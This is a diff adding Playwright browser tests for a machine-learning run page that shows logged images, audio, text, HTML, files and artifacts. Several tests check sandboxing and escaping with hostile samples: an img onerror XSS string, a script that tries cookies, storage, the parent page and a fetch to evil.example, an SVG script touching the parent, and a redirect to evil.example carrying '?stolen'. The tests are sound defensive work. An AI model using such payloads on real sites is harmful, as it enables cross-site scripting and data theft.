@@ -1,0 +1,271 @@
+"""The files and artifacts of a run on its page, in a real browser."""
+
+import re
+import struct
+import zlib
+
+import pytest
+from browser_pages import Requests, eventually, serious_barriers
+from playwright.sync_api import expect
+
+import afnio_tellurio as te
+
+PROJECT = "/acme/projects/digits/"
+HOSTILE = "<img src=x onerror=alert(1)>\u202e"
+#: It tries all that it must not be able to do, and tells in its own text what it could.
+PRYING = """
+<style>p { color: rgb(1, 2, 3) }</style><p id="told">nothing</p>
+<script>
+(async () => {
+  const told = [];
+  const attempt = async (name, act) => {
+    try { await act(); told.push(name); } catch (error) { /* as it must be */ }
+  };
+  await attempt("parent", () => parent.document.body.innerHTML);
+  await attempt("cookies", () => document.cookie);
+  await attempt("storage", () => localStorage.length);
+  await attempt("api", () => fetch("/api/v0/namespaces/"));
+  await attempt("other", () => fetch("https://evil.example/", { mode: "no-cors" }));
+  await attempt("top", () => { top.location.href = "/elsewhere/"; });
+  document.getElementById("told").textContent = `origin ${origin}, could: ${told.join(" ")}`;
+})();
+</script>
+"""
+
+
+def png(width=4, height=4):
+    """A gray picture."""
+
+    def chunk(kind, data):
+        checksum = zlib.crc32(kind + data)
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    rows = (b"\0" + b"\x80" * width) * height
+    data = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + data
+
+
+def wav(count=800):
+    """A moment of silence."""
+    data = bytes(2 * count)
+    head = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)
+    body = b"WAVE" + head + b"data" + struct.pack("<I", len(data)) + data
+    return b"RIFF" + struct.pack("<I", len(body)) + body
+
+
+def begin(client, name="run"):
+    return te.init("acme", "Digits", name, client=client)
+
+
+def open_run(open_page, run, query="", **options):
+    page = open_page(f"{PROJECT}runs/{run.uuid}/{query}", **options)
+    expect(page.locator("h1")).to_contain_text(run.name)
+    return page
+
+
+def series(page, name):
+    return page.locator("figure").filter(has=page.locator("figcaption", has_text=name))
+
+
+def test_a_run_without_files_loads_no_code_for_them(open_page, client):
+    with begin(client) as run:
+        run.log("loss", 1)
+    page = open_run(open_page, run)
+    urls = set()
+    page.on("request", lambda request: urls.add(request.url))
+    page.reload()
+    Requests(page, "/files/").to_be_more_than(0)
+    expect(page.locator("figure canvas")).to_be_visible()
+    expect(page.locator("h2", has_text=re.compile("Files|Artifacts"))).to_have_count(0)
+    assert [url for url in urls if url.endswith("/details.js")]
+    assert not [url for url in urls if url.endswith(("/files.js", "/previews.js"))]
+
+
+def test_series_show_the_nearest_step(open_page, client):
+    with begin(client) as run:
+        for step in (0, 5, 10):
+            run.log_image("samples", png(4 + step), step=step)
+            run.log_text("answers", f"first {step}\n  second", step=step)
+        run.log_text("rare", "rare", step=4)
+        run.log_audio("beep", wav(), step=0)
+    page = open_run(open_page, run)
+    image = series(page, "samples").locator("img")
+    expect(image).to_have_js_property("naturalWidth", 14)
+    text = series(page, "answers").locator("pre")
+    expect(text).to_have_text("first 10\n  second", use_inner_text=True)
+    expect(series(page, "beep").locator("audio")).to_have_js_property("duration", 0.1)
+    slider = page.get_by_role("slider", name="Step")
+    slider.focus()
+    page.keyboard.press("ArrowLeft")
+    expect(page).to_have_url(re.compile("at=5"))
+    expect(image).to_have_js_property("naturalWidth", 9)
+    expect(text).to_contain_text("first 5")
+    page.keyboard.press("Home")
+    expect(series(page, "rare").locator("figcaption")).to_contain_text("step 4")
+    expect(text).to_contain_text("first 0")
+    page = open_run(open_page, run, "?at=5")
+    expect(series(page, "answers").locator("pre")).to_contain_text("first 5")
+
+
+def test_new_steps_appear(open_page, client):
+    run = begin(client)
+    run.log_text("answers", "old", step=0)
+    run.flush()
+    page = open_run(open_page, run)
+    expect(series(page, "answers").locator("pre")).to_have_text("old")
+    run.log_text("answers", "new", step=1)
+    run.flush()
+    eventually(page, expect(series(page, "answers").locator("pre")).to_have_text, "new")
+    run.finish()
+
+
+def test_files_are_listed_shown_and_downloaded(open_page, client, tmp_path):
+    source = tmp_path / "config.json"
+    source.write_text('{"layers": 2}')
+    with begin(client) as run:
+        run.log_file(source, "model/config.json")
+    page = open_run(open_page, run)
+    item = page.locator(".files li")
+    expect(item.locator("summary")).to_have_text("model/config.json 13 B")
+    assert Requests(page, "/file/").all() == []
+    with page.expect_download() as download:
+        item.get_by_role("button", name="Download model/config.json").click()
+    assert download.value.suggested_filename == "config.json"
+    assert download.value.path().read_bytes() == source.read_bytes()
+    item.locator("summary").click()
+    expect(item.locator("pre")).to_have_text('{"layers": 2}')
+
+
+def test_only_what_is_seen_is_loaded(open_page, client):
+    with begin(client) as run:
+        for number in range(60):
+            run.log_text(f"text {number:02}", f"it is {number}", step=0)
+    page = open_run(open_page, run)
+    expect(series(page, "text 00").locator("pre")).to_have_text("it is 0")
+    last = "path=text+59"
+    assert Requests(page, last).all() == []
+    series(page, "text 59").scroll_into_view_if_needed()
+    expect(series(page, "text 59").locator("pre")).to_have_text("it is 59")
+    Requests(page, last).to_be_more_than(0)
+
+
+def test_the_artifacts_of_a_run_are_linked(open_page, client):
+    with begin(client, "training") as training:
+        training.log_artifact(b"data", "model", type="model")
+    with begin(client, "evaluation") as evaluation:
+        evaluation.use_artifact("model")
+        evaluation.log_artifact(b"more", "report", type="text")
+    page = open_run(open_page, evaluation)
+    expect(page.locator("h3")).to_have_text(["Inputs", "Outputs"])
+    expect(page.locator(".files li")).to_have_text(["model:v0 model · 4 B", "report:v0 text · 4 B"])
+    link = page.get_by_role("link", name="model:v0")
+    expect(link).to_have_attribute("href", f"{PROJECT}artifacts/model/v0/")
+
+
+def test_html_has_an_origin_of_its_own(open_page, client):
+    with begin(client) as run:
+        run.log_html("report", PRYING, step=0)
+    page = open_run(open_page, run)
+    frame = series(page, "report").frame_locator("iframe")
+    told = frame.locator("#told")
+    expect(told).to_have_text("origin null, could: ")
+    expect(told).to_have_css("color", "rgb(1, 2, 3)")
+    expect(page).to_have_url(re.compile(run.uuid))
+    assert series(page, "report").locator("iframe").get_attribute("sandbox") == "allow-scripts"
+    # The browser tells what it prevented.
+    prevented = open_page.take_messages()
+    assert prevented
+    assert all(re.search("Content Security Policy|Unsafe attempt", line) for line in prevented)
+
+
+def log_raw(client, run, path, data, **fields):
+    """Logs a file with any content type, as another client may."""
+    with te.init("acme", "Digits", "upload", client=client) as other:
+        version = other.log_artifact(data, "blob", wait=True)
+    (file,) = version.files
+    body = {"path": path, "digest": file.digest, **fields}
+    client.post(f"/api/v0{PROJECT}runs/{run.uuid}/files/", body)
+
+
+@pytest.mark.parametrize("content_type", ["image/svg+xml", "text/html; charset=utf-8"])
+def test_a_declared_type_decides_what_a_frame_shows(open_page, client, content_type):
+    run = begin(client)
+    picture = b"<svg xmlns='http://www.w3.org/2000/svg'><script>parent.name = 'x'</script></svg>"
+    fields = {"kind": "image", "step": 0, "content_type": content_type}
+    log_raw(client, run, "drawing", picture, **fields)
+    page = open_run(open_page, run)
+    frame = series(page, "drawing").frame_locator("iframe")
+    expect(frame.locator("svg")).to_have_count(1)
+    assert page.locator("main svg, main img").count() == 0
+    assert page.evaluate("window.name") == ""
+    (message,) = open_page.take_messages()
+    assert 'Blocked a frame with origin "null"' in message
+    run.finish()
+
+
+def test_html_cannot_leave_its_frame(open_page, client):
+    with begin(client) as run:
+        leave = "<script>location.href = 'https://evil.example/?stolen'</script>"
+        run.log_html("report", leave, step=0)
+    page = open_page("/")
+    with page.expect_console_message(lambda message: "frame-src" in message.text):
+        page.goto(page.url + f"{PROJECT[1:]}runs/{run.uuid}/")
+    # The opener checks that no request left.
+    assert all("Content Security Policy" in line for line in open_page.take_messages())
+
+
+def test_bytes_that_are_not_what_was_declared_are_harmless(open_page, client):
+    run = begin(client)
+    picture = b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'></svg>"
+    fields = {"kind": "image", "step": 0, "content_type": "image/png"}
+    log_raw(client, run, "drawing", picture, **fields)
+    log_raw(client, run, "strange", b"x", **{**fields, "content_type": "application/x-strange"})
+    page = open_run(open_page, run)
+    expect(series(page, "drawing")).to_contain_text("cannot be shown")
+    expect(series(page, "strange")).to_contain_text("No preview of this type.")
+    run.finish()
+
+
+def test_paths_and_texts_are_text(open_page, client):
+    with begin(client) as run:
+        run.log_text("answers", HOSTILE, step=0)
+        run.log_artifact(b"x", "model", type=HOSTILE)
+    page = open_run(open_page, run)
+    expect(page.locator("figure pre")).to_have_text(HOSTILE)
+    expect(page.locator(".files bdi").last).to_have_text(HOSTILE)
+    assert page.locator("main script, main img, main svg").count() == 0
+    # The backend refuses such paths, and the page does not rely on that.
+    file = {"path": HOSTILE, "kind": "file", "digest": "0" * 64, "size": 3}
+    files = [{**file, "step": 0, "kind": "text"}, file]
+    page.route(re.compile("/files/"), lambda route: route.fulfill(json=files))
+    page.route(re.compile("/file/"), lambda route: route.fulfill(body=HOSTILE))
+    page.reload()
+    expect(page.locator("figcaption > bdi")).to_have_text(HOSTILE)
+    expect(page.locator("summary bdi")).to_have_text(HOSTILE)
+    expect(page.locator("figure pre")).to_have_text(HOSTILE)
+    assert page.locator("main script, main img, main svg").count() == 0
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_files_are_for_everybody_and_any_width(open_page, client, tmp_path, scheme):
+    source = tmp_path / "notes.txt"
+    source.write_text("long " * 100)
+    with begin(client) as run:
+        for step in range(2):
+            run.log_image("samples", png(900, 30), step=step)
+        run.log_audio("beep", wav(), step=0)
+        run.log_text("t" * 200, "y" * 2000, step=0)
+        run.log_html("report", "<h1>Report</h1>", step=0)
+        run.log_file(source, "x" * 200)
+        run.log_artifact(b"x", "m" * 100, type="model")
+    page = open_run(open_page, run, scheme=scheme)
+    page.locator(".files summary").click()
+    expect(page.locator(".files pre")).to_be_visible()
+    expect(page.locator("img.media")).to_be_visible()
+    assert serious_barriers(page) == []
+    for width in (1280, 360):
+        page.set_viewport_size({"width": width, "height": 900})
+        page.wait_for_function(
+            "(width) => document.documentElement.scrollWidth <= width", arg=width
+        )
